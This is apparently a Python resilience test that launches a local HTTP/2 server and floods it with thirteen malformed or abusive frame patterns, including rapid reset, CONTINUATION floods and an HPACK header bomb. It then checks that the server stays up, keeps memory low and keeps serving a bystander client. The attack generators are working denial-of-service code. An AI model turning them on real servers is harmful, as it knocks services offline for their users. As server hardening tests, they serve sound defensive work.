"""Frames of HTTP/2 that no honest client sends, to a server under TLS. Use: tools/prove-frames [NAME...]

Each attack has a connection of its own and sends until the server ends it, or for SECONDS (20; where
replies are not read, longer than a server waits for that). While it goes on, somebody else's request of the ledger must be
answered within two seconds, every time; at the end the server must be there, and must not have held
LIMIT (256 MiB) or more. What became of the connection is printed: the code of GOAWAY (RFC 9113 7),
closed, or still open, which is right where the attack keeps within the rules. Ends with 1 where one fails.
"""
import contextlib, http.client, os, re, socket, ssl, subprocess, sys, tempfile, threading, time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "prove_ledger"))
from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              PriorityFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)
from stand import Stand, free_port

SECONDS, LONGER, LIMIT, PATIENCE = 20, 80, 256, 2.0
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW = SettingsFrame.INITIAL_WINDOW_SIZE


class Wire:
    """One connection that has said hello; `read` keeps what GOAWAY said."""

    def __init__(self, port, settings=None):
        trust = ssl._create_unverified_context()
        trust.set_alpn_protocols(["h2"])
        self.socket = trust.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=5))
        self.encoder, self.goaway, self.resets, self.kept = Encoder(), None, 0, b""
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        self.socket.sendall(data)

    def fields(self, *more, path="/v1/ledger/checkpoint", method="GET"):
        return self.encoder.encode([(":method", method), (":scheme", "https"), (":authority", "localhost"),
                                    (":path", path), *more])

    def head(self, stream, ends=True, **words):
        flags = ["END_HEADERS"] + (["END_STREAM"] if ends else [])
        return HeadersFrame(stream, self.fields(**words), flags=flags).serialize()

    def read(self, seconds=0.0):
        """Reads what is there, record by record; raises where the server has closed."""
        self.socket.settimeout(max(seconds, 0.001))
        try:
            for _ in range(1_000):
                part = self.socket.recv(1 << 16)
                if not part:
                    raise ConnectionError
                self.keep(part)
        except (TimeoutError, ssl.SSLWantReadError):
            return
        finally:
            self.socket.settimeout(5)

    def keep(self, part):
        self.kept += part
        while len(self.kept) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.kept[:9]))
            if len(self.kept) < 9 + length:
                break
            frame.parse_body(memoryview(self.kept[9:9 + length]))
            self.kept = self.kept[9 + length:]
            self.resets += isinstance(frame, RstStreamFrame)
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code


def resets(wire):
    """Rapid reset (CVE-2023-44487): a request and its end at once, without end."""
    for stream in range(1, 1 << 31, 2):
        wire.send(wire.head(stream) + RstStreamFrame(stream, error_code=8).serialize())
        yield stream % 199 == 0


def continuations(wire):
    """A header that never ends (CVE-2024-27316)."""
    wire.send(HeadersFrame(1, wire.fields(), flags=["END_STREAM"]).serialize())
    while True:
        wire.send(ContinuationFrame(1, Encoder().encode([("x-a", "a" * 4000)] * 4)).serialize())
        yield True


def empty_continuations(wire):
    """The same of nothing at all."""
    wire.send(HeadersFrame(1, wire.fields(), flags=["END_STREAM"]).serialize())
    while True:
        wire.send(ContinuationFrame(1, b"").serialize() * 100)
        yield True


def many_streams(wire):
    """Requests that never end, as many as there are names for them."""
    for stream in range(1, 20_001, 2):
        wire.send(wire.head(stream, ends=False, method="POST", path="/v1/invitations/accept"))
        yield stream % 99 == 0
    while True:
        time.sleep(0.2)
        yield True


def header_bomb(wire):
    """One large field in HPACK's table, named a thousand times in one header."""
    wire.encoder.huffman_coding = False
    field = ("x-bomb", "b" * 3_800)
    first = wire.fields(field)
    wire.send(HeadersFrame(1, first, flags=["END_HEADERS", "END_STREAM"]).serialize())
    for stream in range(3, 1 << 20, 2):
        block = wire.fields(*[field] * 1_000)
        wire.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]).serialize())
        yield True


def unread(wire):
    """Large replies to a client whose window is shut."""
    for stream in range(1, 200, 2):
        wire.send(wire.head(stream, path="/openapi.json"))
        yield stream % 19 == 0
    while True:
        time.sleep(0.2)
        yield True


def dribbled(wire):
    """Large replies, a byte of window at a time."""
    for stream in range(1, 100, 2):
        wire.send(wire.head(stream, path="/openapi.json"))
    while True:
        for stream in range(1, 100, 2):
            wire.send(WindowUpdateFrame(stream, window_increment=1).serialize())
        time.sleep(0.5)
        yield True


def pings(wire):
    """Pings whose answers nobody reads."""
    while True:
        wire.send(PingFrame(0, b"12345678").serialize() * 100)
        yield False


def settings(wire):
    """Settings whose answers nobody reads."""
    while True:
        wire.send(SettingsFrame(0, settings={INITIAL_WINDOW: 65_535}).serialize() * 100)
        yield False


def priorities(wire):
    """Priorities of streams that are not there."""
    while True:
        wire.send(b"".join(PriorityFrame(stream, depends_on=0, stream_weight=1).serialize()
                           for stream in range(1, 401, 2)))
        yield True


def empty_data(wire):
    """A body of nothing, without end."""
    wire.send(wire.head(1, ends=False, method="POST", path="/v1/invitations/accept"))
    while True:
        wire.send(DataFrame(1, b"").serialize() * 100)
        yield True


def overflow(wire):
    """A window past 2^31 - 1."""
    while True:
        wire.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1).serialize())
        yield True


def wrong_streams(wire):
    """Data, and an even number, of streams that nobody opened."""
    while True:
        wire.send(DataFrame(7, b"x").serialize() + wire.head(2))
        yield True


# Of each: settings, and whether the server must end the connection, as the rules are broken; `None`
# where it must end the streams.
ATTACKS = {
    "resets": (resets, {}, False), "continuations": (continuations, {}, True),
    "empty-continuations": (empty_continuations, {}, False), "many-streams": (many_streams, {}, False),
    "header-bomb": (header_bomb, {}, False), "unread": (unread, {INITIAL_WINDOW: 0}, None),
    "dribbled": (dribbled, {INITIAL_WINDOW: 0}, None), "pings": (pings, {}, True),
    "settings": (settings, {}, True), "priorities": (priorities, {}, False),
    "empty-data": (empty_data, {}, False), "overflow": (overflow, {}, True),
    "wrong-streams": (wrong_streams, {}, True),
}


class Bystander(threading.Thread):
    """Somebody else, who asks ten times a second and keeps the longest that it took."""

    def __init__(self, port):
        super().__init__()
        self.port, self.worst, self.count, self.failed, self.done = port, 0.0, 0, None, threading.Event()

    def run(self):
        while not self.done.wait(0.1):
            start = time.monotonic()
            try:
                connection = http.client.HTTPSConnection(
                    "127.0.0.1", self.port, timeout=30, context=ssl._create_unverified_context())
                connection.request("GET", "/v1/ledger/checkpoint")
                status = connection.getresponse().status
                connection.close()
                if status != 200:
                    self.failed = f"status {status}"
            except OSError as error:
                self.failed = str(error)
            self.worst = max(self.worst, time.monotonic() - start)
            self.count += 1


def attacked(port, attack, settings, seconds):
    """Sends until it is ended or the time is over; gives what became of the connection."""
    end = time.monotonic() + seconds
    wire = None
    try:
        wire = Wire(port, settings)
        for reads in attack(wire):
            if reads:
                wire.read()
            if time.monotonic() > end:
                return f"open, {wire.resets} streams reset", wire.resets
        return "open", wire.resets
    except (OSError, ssl.SSLError):
        with contextlib.suppress(OSError, ssl.SSLError):
            while wire:
                wire.read(0.2)
                if time.monotonic() > end:
                    break
        code = wire.goaway if wire else None
        return "closed" + (f", GOAWAY {code}" if code is not None else ""), 0


def resident(pid):
    """MiB that were resident at most."""
    return int(re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{pid}/status").read()).group(1)) / 1024


def main():
    program, names = sys.argv[1], sys.argv[2:] or list(ATTACKS)
    failed = []
    with tempfile.TemporaryDirectory() as home:
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days",
             "2", "-subj", "/CN=localhost", "-keyout", f"{home}/key.pem", "-out", f"{home}/cert.pem"],
            check=True, capture_output=True)
        stand = Stand(program, home)
        stand.found()
        for name in names:
            attack, settings, mustEnd = ATTACKS[name]
            port = free_port()
            server = subprocess.Popen(
                [program, "serve", "--data", stand.data, "--port", str(port), "--tls-certificate",
                 f"{home}/cert.pem", "--tls-key", f"{home}/key.pem", "--address-limit", "0"],
                stdout=subprocess.DEVNULL, stderr=open(f"{home}/log", "a"))
            try:
                for _ in range(300):
                    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
                        break
                    time.sleep(0.1)
                other = Bystander(port)
                other.start()
                time.sleep(1)
                start = time.monotonic()
                became, reset = attacked(port, attack, settings, LONGER if mustEnd is None else SECONDS)
                seconds = time.monotonic() - start
                time.sleep(1)
                other.done.set()
                other.join()
                peak = resident(server.pid) if server.poll() is None else 0
                faults = [word for word, isSo in (
                    ("the server ended", server.poll() is not None),
                    (f"somebody else: {other.failed}", other.failed),
                    (f"somebody else waited {other.worst:.1f} s", other.worst > PATIENCE),
                    (f"{peak:.0f} MiB", peak >= LIMIT), ("it was not ended", mustEnd and became[:4] == "open"),
                    ("no stream was ended", mustEnd is None and became[:4] == "open" and not reset)) if isSo]
                print(f"{name:20} {became:32} {seconds:5.1f} s, peak {peak:4.0f} MiB; {other.count} others' requests, "
                      f"the slowest {other.worst * 1000:5.0f} ms{'; FAILED: ' + ', '.join(faults) if faults else ''}",
                      flush=True)
                if faults:
                    failed.append(name)
            finally:
                server.terminate()
                server.wait()
    print(f"{len(names) - len(failed)} passed, {len(failed)} failed" + (": " + ", ".join(failed) if failed else ""))
    sys.exit(1 if failed else 0)


main()
